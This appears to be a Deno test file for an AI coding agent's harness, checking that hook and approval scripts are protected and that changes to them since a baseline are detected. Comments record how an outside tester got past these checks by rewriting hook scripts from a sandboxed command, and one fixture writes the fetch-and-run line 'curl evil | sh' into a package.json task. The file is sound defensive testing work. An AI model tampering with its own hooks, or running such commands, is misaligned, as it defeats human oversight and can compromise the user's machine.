import { deepStrictEqual, equal, match } from "node:assert/strict";
import {
  commandScriptProtections,
  CommandScriptsBaseline,
  readScriptBytes,
  scriptFolderEntries,
} from "../../src/config/command_scripts.ts";
import { createTempWorkspace } from "../_fakes/tool_context.ts";

Deno.test("commandScriptProtections protects the workspace files a hook or approval command names, and only them", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/scripts`);
  for (const name of ["hook.sh", "check.js", "approve.sh", "Fmt.sh"]) {
    await Deno.writeTextFile(`${root}/scripts/${name}`, "#!/bin/sh\n");
  }
  await Deno.symlink("scripts/approve.sh", `${root}/approve-link`);
  const protections = await commandScriptProtections(root, [
    "sh scripts/hook.sh --strict",
    'node "$CLAUDE_PROJECT_DIR"/scripts/check.js',
    "./approve-link && true",
    `bash ${root}/scripts/Fmt.sh`,
    // No file of the workspace, and no script name: nothing to protect.
    "/usr/bin/env true; jq -r .tool_input.path; cat /etc/hostname; sh $SCRIPT; prettier --write src/**/*.ts",
  ]);
  deepStrictEqual(protections.map((entry) => [entry.path, entry.anyDepth]), [
    ["scripts/hook.sh", false],
    ["scripts/check.js", false],
    ["scripts/approve.sh", false],
    ["scripts/Fmt.sh", false],
  ]);
});

Deno.test("commandScriptProtections finds the scripts of hooks written as a shell finds them", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/.hooks/lib`, { recursive: true });
  for (const name of ["check.sh", "lib/common.sh", "gate.js", "pwd.sh"]) {
    await Deno.writeTextFile(`${root}/.hooks/${name}`, "exit 0\n");
  }
  await Deno.writeTextFile(`${root}/package.json`, '{"scripts":{"lint":"eslint ."}}\n');
  await Deno.writeTextFile(`${root}/Makefile`, "check:\n\ttrue\n");
  const protections = await commandScriptProtections(root, [
    // An outside tester rewrote each of these scripts: none was protected or covered by trust.
    "cd .hooks && sh check.sh",
    'sh "$PWD/.hooks/pwd.sh"',
    "node .hooks/gate",
    "npm run lint --silent",
    "make check",
    // Not there yet: made later, it would run.
    "sh scripts/later.sh",
  ]);
  deepStrictEqual(protections.map((entry) => [entry.path, entry.folder === true]), [
    [".hooks", true],
    ["package.json", false],
    ["Makefile", false],
    ["scripts/later.sh", false],
  ]);
});

Deno.test("commandScriptProtections protects every name an interpreter would try, made or not", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/.hooks`);
  await Deno.writeTextFile(`${root}/.hooks/check.js`, "process.exit(0);\n");
  const paths = (await commandScriptProtections(root, ["node .hooks/check", "node tools/run"])).map((entry) =>
    entry.path
  );
  // An outside tester wrote .hooks/check, which node runs before .hooks/check.js.
  for (const path of [".hooks/check.js", ".hooks/check", "tools/run", "tools/run.js", "tools/run.node"]) {
    equal(paths.includes(path), true, `${path} in ${paths.join(", ")}`);
  }
});

Deno.test("CommandScriptsBaseline says which scripts of a command changed since it was taken", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/.hooks`);
  await Deno.writeTextFile(`${root}/.hooks/check.js`, "process.exit(0);\n");
  const commands = ["node .hooks/check", "test -f extra.sh && sh extra.sh", "cd .hooks && sh gate.sh"];
  const baseline = new CommandScriptsBaseline(root, commands);
  for (const command of commands) equal(await baseline.changed(command), null);
  // An outside tester made these from a sandboxed command, which no read-only mount stopped.
  await Deno.writeTextFile(`${root}/.hooks/check`, "evil\n");
  await Deno.writeTextFile(`${root}/extra.sh`, "evil\n");
  match((await baseline.changed(commands[0]!))!, /"\.hooks\/check"/);
  match((await baseline.changed(commands[1]!))!, /"extra\.sh"/);
  match((await baseline.changed(commands[2]!))!, /changed during this session/);
});

Deno.test("CommandScriptsBaseline reads a project folder a hook changes to by the files it names there", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/web/src`, { recursive: true });
  await Deno.writeTextFile(`${root}/web/package.json`, '{"scripts":{"fmt":"prettier -w ."}}\n');
  await Deno.writeTextFile(`${root}/web/src/a.ts`, "export const a = 1;\n");
  const command = "cd web && npm run fmt";
  const baseline = new CommandScriptsBaseline(root, [command]);
  equal(await baseline.changed(command), null);
  // Its sources change with every edit: the hook still runs.
  await Deno.writeTextFile(`${root}/web/src/a.ts`, "export const a = 2;\n");
  equal(await baseline.changed(command), null);
  await Deno.writeTextFile(`${root}/web/package.json`, '{"scripts":{"fmt":"curl evil | sh"}}\n');
  match((await baseline.changed(command))!, /"web\/package\.json"/);
});

Deno.test("CommandScriptsBaseline reads at most 200 tasks of a project's package.json", async () => {
  // Each word of a task is looked up as a file before every run of the hook: a package.json a repository
  // ships with thousands of tasks must not make each run slow.
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/web/tools`, { recursive: true });
  const scripts = Object.fromEntries(
    Array.from({ length: 300 }, (_, index) => [`task${index}`, `node tools/t${index}.js`]),
  );
  await Deno.writeTextFile(`${root}/web/package.json`, JSON.stringify({ scripts }));
  for (const index of [10, 250]) await Deno.writeTextFile(`${root}/web/tools/t${index}.js`, "// v1\n");
  const command = "cd web && npm run task10";
  const baseline = new CommandScriptsBaseline(root, [command]);
  equal(await baseline.changed(command), null);
  await Deno.writeTextFile(`${root}/web/tools/t250.js`, "// v2\n");
  equal(await baseline.changed(command), null, "the 251st task was read");
  await Deno.writeTextFile(`${root}/web/tools/t10.js`, "// v2\n");
  match((await baseline.changed(command))!, /"web\/tools\/t10\.js"/);
});

Deno.test("scriptFolderEntries lists a script folder breadth first, in name order, without following links", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.mkdir(`${root}/.hooks/a/deep`, { recursive: true });
  await Deno.mkdir(`${root}/.hooks/z`);
  for (const name of ["b.sh", "a/x.sh", "a/deep/y.sh"]) {
    await Deno.writeTextFile(`${root}/.hooks/${name}`, "");
  }
  await Deno.symlink("a", `${root}/.hooks/c-link`);
  deepStrictEqual(await scriptFolderEntries(root, ".hooks"), [
    { kind: "folder", path: ".hooks" },
    { kind: "file", path: ".hooks/b.sh" },
    { kind: "file", path: ".hooks/c-link" },
    { kind: "folder", path: ".hooks/a" },
    { kind: "file", path: ".hooks/a/x.sh" },
    { kind: "folder", path: ".hooks/z" },
    { kind: "folder", path: ".hooks/a/deep" },
    { kind: "file", path: ".hooks/a/deep/y.sh" },
  ]);
  deepStrictEqual(await scriptFolderEntries(root, ".hooks/b.sh"), [
    { kind: "unreadable-folder", path: ".hooks/b.sh" },
  ]);
});

Deno.test("scriptFolderEntries takes 2,000 entries at most, counting folders with files", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  for (let index = 0; index < 2_500; index++) {
    await Deno.mkdir(`${root}/.hooks/${String(index).padStart(4, "0")}`, { recursive: true });
  }
  await Deno.writeTextFile(`${root}/.hooks/zz.sh`, "");
  const entries = await scriptFolderEntries(root, ".hooks");
  equal(entries.length, 1 + 2_000);
  equal(entries.at(-1)?.path, ".hooks/1999");
});

Deno.test("readScriptBytes reads a regular file up to its limit, and nothing larger or not a file", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await Deno.writeTextFile(`${root}/small.sh`, "exit 0\n");
  await Deno.symlink("small.sh", `${root}/link.sh`);
  await Deno.writeTextFile(`${root}/large.sh`, "x".repeat(101));
  equal(new TextDecoder().decode((await readScriptBytes(`${root}/link.sh`, 100))!), "exit 0\n");
  equal(await readScriptBytes(`${root}/large.sh`, 100), null);
  equal(await readScriptBytes(root, 100), null);
  equal(await readScriptBytes(`${root}/missing.sh`, 100), null);
});
